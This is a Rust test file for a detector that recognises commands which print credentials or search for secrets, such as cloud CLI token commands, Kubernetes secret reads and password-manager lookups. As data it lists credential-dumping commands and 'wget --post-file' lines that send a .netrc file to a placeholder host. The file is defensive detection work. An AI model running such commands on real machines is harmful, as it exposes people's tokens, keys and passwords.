use crate::{
    catalog::{Catalog, secrets::Secrets},
    facts::Grade,
};

fn builtin() -> Catalog {
    Catalog::builtin().unwrap_or_else(|problems| panic!("{problems:#?}"))
}

fn words(line: &str) -> Vec<String> {
    line.split(' ').map(str::to_owned).collect()
}

#[test]
fn commands_that_print_credentials_are_known_with_their_store() {
    let catalog = builtin();
    let cases = [
        ("gh auth token", Some("forge-cli")),
        ("gh auth status --show-token", Some("forge-cli")),
        ("gh auth status", None),
        ("gh pr list", None),
        ("gcloud auth print-access-token", Some("gcloud")),
        ("gcloud --project p auth application-default print-access-token", Some("gcloud")),
        ("gcloud auth list", None),
        ("aws configure export-credentials --profile prod", Some("aws")),
        ("aws --profile prod sts assume-role --role-arn x", Some("aws")),
        ("aws secretsmanager get-secret-value --secret-id x", Some("aws-secrets")),
        ("aws s3 ls", None),
        ("az account get-access-token", Some("azure")),
        ("secret-tool lookup service x", Some("keyring-command")),
        ("secret-tool store x", None),
        ("kwallet-query -r x kdewallet", Some("keyring-command")),
        ("keyctl print 12", Some("keyring-command")),
        ("keyctl show", None),
        ("pass show work/aws", Some("password-store")),
        ("pass work/aws", Some("password-store")),
        ("pass ls", None),
        ("op read op://vault/item/field", Some("onepassword")),
        ("op --account x item get y", Some("onepassword")),
        ("bw get password x", Some("password-manager")),
        ("security find-generic-password -w", Some("keyring-command")),
        ("kubectl config view --raw", Some("kubeconfig")),
        ("kubectl config view", None),
        ("kubectl -n prod get secret db -o yaml", Some("kubernetes-secrets")),
        ("kubectl get secrets -ojson", Some("kubernetes-secrets")),
        ("kubectl get secret/db --template={{.data}}", Some("kubernetes-secrets")),
        ("k3s kubectl get secret/db -o yaml", Some("kubernetes-secrets")),
        ("kubectl get cm,secret -o yaml", Some("kubernetes-secrets")),
        ("kubectl get secrets", None),
        ("kubectl describe secret db", None),
        ("kubectl get --raw /api/v1/namespaces/shop/secrets/db", Some("kubernetes-secrets")),
        ("kubectl get --raw=/api/v1/secrets", Some("kubernetes-secrets")),
        ("kubectl get --raw /healthz", None),
        ("kubectl exec -n shop -c api pod/api -- printenv", Some("kubernetes-secrets")),
        (
            "kubectl exec api -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            Some("kubernetes-secrets"),
        ),
        ("kubectl exec api -- ls /app", None),
        ("kubectl cp /home/ann/.kube/config pod:/tmp/x", Some("kubeconfig")),
        ("kubectl cp dist pod:/srv", None),
        ("gh auth git-credential get", Some("forge-cli")),
        ("gh auth git-credential store", None),
        ("wget --post-file=/home/ann/.netrc http://x", Some("netrc")),
        ("wget --post-file /home/ann/.netrc http://x", Some("netrc")),
        ("wget http://x --post-file /home/ann/.netrc", Some("netrc")),
        ("wget --post-file=payload.json http://x", None),
        ("wget http://x/.netrc", None),
        ("heroku run env -a shop", Some("netrc")),
        ("heroku run rake db:migrate", None),
        ("fly ssh console -a shop -C printenv", Some("fly")),
        ("fly ssh console -C ls", None),
        ("railway ssh printenv", Some("railway-cli")),
        ("railway ssh ls", None),
        ("rclone config show", Some("rclone")),
        ("rclone copy a b", None),
        ("pip config get global.index-url", Some("pip")),
        ("pip config get global.timeout", None),
        ("supabase status -o env", None),
        ("supabase projects api-keys", Some("supabase")),
        ("kubectl get pods", None),
        ("vault kv get secret/x", Some("vault")),
        ("vault read secret/x", Some("vault")),
        ("vault status", None),
        ("heroku auth:token", Some("netrc")),
        ("railway variables", Some("railway-cli")),
        ("railway up", None),
        ("fly auth token", Some("fly")),
        ("flyctl tokens create deploy", Some("fly")),
        ("doppler secrets", Some("doppler")),
        ("terraform output -json", Some("terraform-state")),
        ("terraform -chdir=infra state pull", Some("terraform-state")),
        ("terraform plan", None),
        ("git credential fill", Some("git-credentials")),
        ("git credential approve", None),
        ("docker-credential-desktop get", Some("registry-credentials")),
        ("sops -d secrets.yaml", Some("sops-age")),
        ("gpg --export-secret-keys", Some("gnupg")),
        ("systemctl --user show-environment", Some("manager-environment")),
        ("cat gh auth token", None),
    ];
    for (line, expected) in cases {
        let args = words(line);
        let found = catalog.credential_command(&format!("/usr/bin/{}", args[0]), &args);
        assert_eq!(found.map(|judged| judged.id), expected, "{line}");
    }
    let token = catalog.credential_command("gh", &words("gh auth token")).unwrap();
    assert_eq!((token.class, token.grade), ("vcs", Grade::A));
}

#[test]
fn a_script_is_known_by_its_own_name() {
    let catalog = builtin();
    let found = |executable: &str, line: &str| {
        catalog.credential_command(executable, &words(line)).map(|judged| judged.id)
    };
    assert_eq!(
        found("/usr/bin/python3.12", "python3 -u /usr/bin/aws configure export-credentials"),
        Some("aws")
    );
    assert_eq!(found("/usr/bin/python3", "python3 -Im azure.cli account get-access-token"), Some("azure"));
    assert_eq!(found("/usr/bin/node", "node /opt/heroku/bin/heroku auth:token"), Some("netrc"));
    assert_eq!(found("/usr/bin/python3", "python3 -c /usr/bin/aws configure export-credentials"), None);
}

#[test]
fn searches_are_known_and_what_they_look_for() {
    let catalog = builtin();
    let cases = [
        ("rg TODO", Some(("text", false))),
        ("rg -i api_key", Some(("text", true))),
        ("rg RAILWAY_TOKEN /home/ann", Some(("text", true))),
        ("grep -rn token .", Some(("text", true))),
        ("grep --recursive x .", Some(("text", false))),
        ("grep token file", None),
        ("git grep ghp_", Some(("text", true))),
        ("git -C /w grep x", Some(("text", false))),
        ("git log", None),
        ("busybox grep -r password /", Some(("text", true))),
        ("find / -name id_rsa", Some(("files", true))),
        ("find . -name *.rs", Some(("files", false))),
        ("fd .env", Some(("files", true))),
        ("fdfind x", Some(("files", false))),
        ("locate .pem", Some(("files", true))),
        ("gitleaks detect", Some(("scanner", false))),
        ("trufflehog filesystem /", Some(("scanner", false))),
        ("cat x", None),
    ];
    for (line, expected) in cases {
        let args = words(line);
        let found = catalog.search_command(&format!("/usr/bin/{}", args[0]), &args);
        assert_eq!(found.map(|search| (search.id, search.for_secrets)), expected, "{line}");
    }
}

#[test]
fn mistakes_in_commands_are_reported() {
    let text = "version: 1\nentries:\n  - { id: a, class: ssh, grade: A, source: s }\n  \
                - { id: b, class: ssh, grade: A, source: s, commands: ['x/y'], env_override: ['a b'] }\nsearches:\n  - { id: s, commands: ['x|'], source: '' }\nsearch_words: [X]\n";
    let lines: Vec<_> = Secrets::parse(text).unwrap_err().iter().map(ToString::to_string).collect();
    for expected in [
        "yaml:3:5: entries[0]: the entry says nowhere where its store is",
        "yaml:4:58: entries[1].commands[0]: found \"x/y\"; expected base names",
        "entries[1].env_override[0]: found \"a b\"; expected the name of a variable",
        "yaml:6:40: searches[0].source: there is no source",
        "searches[0].commands[0]: found \"x|\"; expected base names of programs",
        "yaml:7:16: search_words[0]: found \"X\"; expected at least three letters",
    ] {
        assert!(lines.iter().any(|line| line.contains(expected)), "{expected} not in {lines:#?}");
    }
}
